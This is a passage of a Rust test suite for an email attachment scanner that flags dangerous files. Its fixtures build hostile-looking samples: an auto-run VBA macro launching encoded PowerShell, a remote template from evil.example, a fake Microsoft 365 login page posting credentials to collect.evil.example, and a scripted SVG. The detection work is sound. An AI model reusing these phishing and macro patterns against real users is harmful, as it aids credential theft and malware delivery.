            .map(|(n, d)| (n.as_str(), d.as_slice()))
            .collect();
        let raw = message(&[att("many.zip", "application/zip", &zip_of(&refs))]);
        let found = findings_with(&raw, &config);
        assert!(detail(&found, "ATTACH_ARCHIVE_BOMB").contains("8 entries (max_entries 5)"));
    }

    #[test]
    fn archives_that_cannot_be_opened_score_a_little() {
        let raw = message(&[
            att("a.rar", "application/x-rar", b"Rar!\x1a\x07\x01\x00rest"),
            att(
                "b.7z",
                "application/x-7z-compressed",
                b"7z\xbc\xaf\x27\x1c\x00\x04",
            ),
        ]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_UNINSPECTABLE"]);
        assert_eq!(found[0].default_score, 1.0);
        assert!(
            found[0].detail.contains("a.rar (RAR archive)") && found[0].detail.contains("b.7z")
        );
    }

    // ---- Office ----

    #[test]
    fn a_macro_enabled_ooxml_document() {
        let docm = docx(&[("word/vbaProject.bin", b"not parsed here")]);
        let raw = message(&[att(
            "order.docm",
            "application/vnd.ms-word.document.macroEnabled.12",
            &docm,
        )]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_OFFICE_MACRO"]);
        assert!(detail(&found, "ATTACH_OFFICE_MACRO")
            .contains("order.docm (contains word/vbaProject.bin)"));
        let xlsm = zip_of(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
        ]);
        let raw = message(&[att("q.xlsm", "application/octet-stream", &xlsm)]);
        assert_eq!(symbols(&findings(&raw)), ["ATTACH_XLM_MACRO"]);
    }

    #[test]
    fn an_ole_document_with_auto_running_vba_that_starts_programs() {
        let source = b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  \
            Shell \"powershell -enc AAAA\", 0\r\nEnd Sub\r\n";
        let mut module = vec![0u8; 40]; // the p-code part before the source
        module.extend_from_slice(&ovba(source));
        let doc = ole(&[
            ("/WordDocument", &[0u8; 64]),
            ("/Macros/VBA/dir", &ovba(b"dir stream")),
            ("/Macros/VBA/ThisDocument", &module),
        ]);
        let raw = message(&[att("invoice.doc", "application/msword", &doc)]);
        let found = findings(&raw);
        assert_eq!(
            symbols(&found),
            [
                "ATTACH_OFFICE_MACRO",
                "ATTACH_MACRO_AUTOEXEC",
                "ATTACH_MACRO_SUSPICIOUS"
            ]
        );
        assert!(detail(&found, "ATTACH_MACRO_AUTOEXEC").contains("autoopen"));
        assert!(detail(&found, "ATTACH_MACRO_SUSPICIOUS").contains("powershell"));
        // A document without a VBA storage is quiet.
        let plain = ole(&[("/WordDocument", &[0u8; 64])]);
        assert!(findings(&message(&[att("plain.doc", "application/msword", &plain)])).is_empty());
    }

    #[test]
    fn attachments_of_an_outlook_msg_file_are_inspected() {
        let name: Vec<u8> = "report.pdf.exe\0"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let msg = ole(&[
            (
                "/__substg1.0_0037001F",
                &"Subject"
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes)
                    .collect::<Vec<u8>>(),
            ),
            ("/__attach_version1.0_#00000000/__substg1.0_3707001F", &name),
            ("/__attach_version1.0_#00000000/__substg1.0_37010102", &pe()),
        ]);
        let raw = message(&[att("Fwd.msg", "application/vnd.ms-outlook", &msg)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE", "ATTACH_DOUBLE_EXT"]);
        assert!(detail(&found, "ATTACH_EXECUTABLE").contains("Fwd.msg/report.pdf.exe"));
    }

    #[test]
    fn an_excel_4_macro_sheet_in_a_workbook() {
        let workbook = biff(&[
            (0x0809, &[0; 16]),
            (
                0x0085,
                &[0, 0, 0, 0, 0, 0, 5, 0, b'S', b'h', b'e', b'e', b't'],
            ),
            (0x0085, &[0, 0, 0, 0, 1, 1, 4, 0, b'A', b'u', b't', b'o']),
            (0x000a, &[]),
        ]);
        let xls = ole(&[("/Workbook", &workbook)]);
        let raw = message(&[att("report.xls", "application/vnd.ms-excel", &xls)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_XLM_MACRO"]);
        assert!(detail(&found, "ATTACH_XLM_MACRO").contains("hidden macro sheet"));
    }

    #[test]
    fn a_file_packaged_inside_a_document_is_inspected() {
        let mut native = 0u32.to_le_bytes().to_vec();
        native.extend_from_slice(&2u16.to_le_bytes());
        native.extend_from_slice(b"update.exe\0C:\\update.exe\0\0\0\x03\0");
        native.extend_from_slice(&3u32.to_le_bytes());
        native.extend_from_slice(b"C:\0");
        let payload = pe();
        native.extend_from_slice(&(payload.len() as u32).to_le_bytes());
        native.extend_from_slice(&payload);
        let object = ole(&[("/\u{1}Ole10Native", &native)]);
        let docx = docx(&[("word/embeddings/oleObject1.bin", &object)]);
        let raw = message(&[att("memo.docx", "application/octet-stream", &docx)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE"]);
        assert!(detail(&found, "ATTACH_EXECUTABLE")
            .contains("memo.docx/word/embeddings/oleObject1.bin/update.exe"));
    }

    #[test]
    fn a_remote_template_in_a_document() {
        let rels: &[u8] = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
        let doc = docx(&[("word/_rels/settings.xml.rels", rels)]);
        let raw = message(&[att("cv.docx", "application/octet-stream", &doc)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_OFFICE_EXTERNAL"]);
        assert!(detail(&found, "ATTACH_OFFICE_EXTERNAL")
            .contains("attachedTemplate from https://evil.example/t.dotm"));
    }

    // ---- web pages ----

    #[test]
    fn an_html_login_page_is_phishing() {
        let page = b"<!DOCTYPE html><html><body><h1>Microsoft 365</h1>\
            <form method=post action='https://collect.evil.example/login.php'>\
            <input type=email name=u><input type=password name=p><button>Sign in</button>\
            </form></body></html>";
        let raw = message(&[att("Secure_Message.html", "text/html", page)]);
        let found = findings(&raw);
        assert_eq!(
            symbols(&found),
            ["ATTACH_HTML_CREDENTIALS", "ATTACH_HTML_FOREIGN_FORM"]
        );
        assert!(detail(&found, "ATTACH_HTML_FOREIGN_FORM").contains("collect.evil.example"));
        let v = Scanner::default().scan(&raw, &Envelope::default());
        assert_eq!(v.category, crate::Category::Phishing, "{v:?}");
        assert!(v.action >= Action::Quarantine);
        // The same page zipped is found too.
        let raw = message(&[att(
            "msg.zip",
            "application/zip",
            &zip_of(&[("msg.htm", page)]),
        )]);
        assert!(symbols(&findings(&raw)).contains(&"ATTACH_HTML_CREDENTIALS"));
    }

    #[test]
    fn svg_with_script() {
        let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.href='https://x.example/'</script></svg>";
        let raw = message(&[att("voicemail.svg", "image/svg+xml", svg)]);
        let found = findings(&raw);
        assert!(symbols(&found).contains(&"ATTACH_SVG_SCRIPT"), "{found:?}");
    }

    #[test]
    fn a_program_in_a_data_uri_of_a_web_page() {
        let page = format!(
            "<html><body><a href=\"data:application/octet-stream;base64,{}\">Open</a></body></html>",
            base64(&pe()).replace("\r\n", "")
        );
        let raw = message(&[att("view.html", "text/html", page.as_bytes())]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE"]);
        assert!(detail(&found, "ATTACH_EXECUTABLE").contains("view.html/(embedded file)"));
    }

    // ---- other containers ----

    fn tnef(files: &[(&str, &[u8])]) -> Vec<u8> {
        fn attr(out: &mut Vec<u8>, level: u8, id: u32, data: &[u8]) {
            out.push(level);
            out.extend_from_slice(&id.to_le_bytes());
            out.extend_from_slice(&(data.len() as u32).to_le_bytes());
            out.extend_from_slice(data);
            let sum: u32 = data.iter().map(|&b| u32::from(b)).sum();
            out.extend_from_slice(&(sum as u16).to_le_bytes());
        }
        let mut out = vec![0x78, 0x9f, 0x3e, 0x22, 0x01, 0x00];
        attr(&mut out, 1, 0x0008_9006, &[0, 0x01, 0, 0]);
        for (name, data) in files {
            attr(
                &mut out,
                2,
                0x0006_9002,
                &[1, 0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0],
            );
            attr(&mut out, 2, 0x0001_8010, format!("{name}\0").as_bytes());
            attr(&mut out, 2, 0x0006_800f, data);
        }
        out
    }

    #[test]
    fn files_inside_winmail_dat_are_inspected() {
        let dat = tnef(&[("notes.txt", b"hello"), ("INVOIC~1.EXE", &pe())]);
        let raw = message(&[att("winmail.dat", "application/ms-tnef", &dat)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE"]);
        assert!(detail(&found, "ATTACH_EXECUTABLE").contains("winmail.dat/INVOIC~1.EXE"));
        let quiet = tnef(&[("notes.txt", b"hello")]);
        assert!(findings(&message(&[att(
            "winmail.dat",
            "application/ms-tnef",
            &quiet
        )]))
        .is_empty());
    }

    #[test]
    fn rtf_objects_packages_and_equations() {
        fn rtf_with(class: &str, native: &[u8]) -> Vec<u8> {
            let mut object = vec![0x01, 0x05, 0, 0, 0x02, 0, 0, 0];
            for name in [format!("{class}\0"), "\0".into(), "\0".into()] {
                object.extend_from_slice(&(name.len() as u32).to_le_bytes());
                object.extend_from_slice(name.as_bytes());
            }
            object.extend_from_slice(&(native.len() as u32).to_le_bytes());
            object.extend_from_slice(native);
            let hex: String = object.iter().map(|b| format!("{b:02x}")).collect();
            format!("{{\\rtf1\\ansi {{\\object\\objemb{{\\*\\objdata\r\n{hex}}}}}}}").into_bytes()
        }
        let mut package = 2u16.to_le_bytes().to_vec();
        package.extend_from_slice(b"run.js\0C:\\run.js\0\0\0\x03\0");
        package.extend_from_slice(&3u32.to_le_bytes());
        package.extend_from_slice(b"C:\0");
        package.extend_from_slice(&8u32.to_le_bytes());
        package.extend_from_slice(b"var a=1;");
        let raw = message(&[att(
            "doc.rtf",
            "application/rtf",
            &rtf_with("Package", &package),
        )]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_DANGEROUS_TYPE"]);
        assert!(detail(&found, "ATTACH_DANGEROUS_TYPE").contains("doc.rtf/run.js (.js: JScript)"));
        let raw = message(&[att(
            "doc.rtf",
            "application/rtf",
            &rtf_with("Equation.3", b"\x1c\0\0\0"),
        )]);
        assert_eq!(symbols(&findings(&raw)), ["ATTACH_EQUATION_OBJECT"]);
        let plain = b"{\\rtf1\\ansi Hello \\b world\\b0.}";
        assert!(findings(&message(&[att("plain.rtf", "application/rtf", plain)])).is_empty());
    }

    #[test]
    fn a_tar_gz_counts_as_one_level() {
        let inner = zip_of(&[("deep.exe", &pe())]);
        let tgz = gzip(&tar_of(&[("a.zip", &zip_of(&[("b.zip", &inner)]))]));
        // tgz (1) -> a.zip (2) -> b.zip (3) -> deep.exe: within the default depth.
        let raw = message(&[att("bundle.tgz", "application/gzip", &tgz)]);
        assert_eq!(symbols(&findings(&raw)), ["ATTACH_EXECUTABLE"]);
    }

    #[test]
    fn an_unnamed_inline_html_part_is_left_to_the_body_checks() {
        let page = b"<html><form action='https://x.example/'><input type=password></form></html>";
        let raw = format!(
            "From: a@example.com\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/related; boundary=\"b\"\r\n\r\n\
             --b\r\nContent-Type: text/html\r\n\r\n<p>hello</p>\r\n\
             --b\r\nContent-Type: text/html\r\n\r\n{}\r\n--b--\r\n",
            String::from_utf8_lossy(page)
        );
        let parsed = mail_parser::MessageParser::default()
            .parse(raw.as_bytes())
            .unwrap();
        let list = attachments(&parsed);
        let html: Vec<_> = list
            .iter()
            .filter(|a| a.content_type.as_deref() == Some("text/html"))
            .collect();
        assert_eq!(
            html.len(),
            1,
            "mail-parser lists the later HTML part: {list:?}"
        );
        assert!(!html[0].as_file);
        assert!(findings(raw.as_bytes()).is_empty());
        // Named, the same page is an attachment.
        let raw = message(&[att("page.html", "text/html", page)]);
        assert!(symbols(&findings(&raw)).contains(&"ATTACH_HTML_CREDENTIALS"));
    }

    // ---- message structure ----

    #[test]
    fn attachments_of_attached_messages_are_inspected_and_listed() {
        let inner = String::from_utf8(message(&[att(
            "tool.exe",
            "application/octet-stream",
            &pe(),
        )]))
        .unwrap();
        let raw = format!(
            "From: c@example.com\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n\
             --outer\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
             --outer\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--outer--\r\n"
        );
        let found = findings(raw.as_bytes());
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE"]);
        let parsed = mail_parser::MessageParser::default()
            .parse(raw.as_bytes())
            .unwrap();
        let list = attachments(&parsed);
        assert_eq!(list.len(), 1);
        assert_eq!(list[0].name, Some("tool.exe"));
        assert_eq!(
            list[0].content_type.as_deref(),
            Some("application/octet-stream")
        );
        assert_eq!(list[0].data, pe().as_slice());
    }

    /// Every prefix and a corrupted copy of each kind of container goes through
    /// the whole inspection without a panic (a panic fails the test).
    #[test]
    fn cut_and_corrupted_files_are_survived() {
        let source = b"Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nEnd Sub\r\n";
        let mut module = vec![0u8; 8];
        module.extend_from_slice(&ovba(source));
        let samples = [
            zip_of(&[("a.exe", &pe()), ("b.txt", b"text text text")]),
            gzip(&tar_of(&[("x.exe", &pe())])),
            ole(&[("/Macros/VBA/dir", b"\x01"), ("/Macros/VBA/M", &module)]),
            ole(&[("/Workbook", &biff(&[(0x0085, &[0, 0, 0, 0, 1, 1, 0, 0])]))]),
            tar_of(&[("a.txt", b"aaaa"), ("b.exe", &pe())]),
        ];
        let config = ScanConfig::default();
        for sample in &samples {
            let step = (sample.len() / 97).max(1);
            for cut in (0..sample.len()).step_by(step) {
                let raw = message(&[att("f.bin", "application/octet-stream", &sample[..cut])]);
                findings_with(&raw, &config);
            }
            let mut flipped = sample.clone();
            for i in (0..flipped.len()).step_by(7) {
                flipped[i] ^= 0x5a;
            }
            let raw = message(&[att("f.bin", "application/octet-stream", &flipped)]);
            findings_with(&raw, &config);
        }
    }

    #[test]
    fn many_files_make_one_finding_that_counts_them() {
        let exes: Vec<(String, Vec<u8>)> = (0..9).map(|i| (format!("p{i}.exe"), pe())).collect();
        let refs: Vec<(&str, &[u8])> = exes
            .iter()
            .map(|(n, d)| (n.as_str(), d.as_slice()))
            .collect();
        let raw = message(&[att("p.zip", "application/zip", &zip_of(&refs))]);
        let found = findings(&raw);
        assert_eq!(found.len(), 1);
        assert!(
            found[0].detail.ends_with(" and 4 more"),
            "{}",
            found[0].detail
        );
    }
}
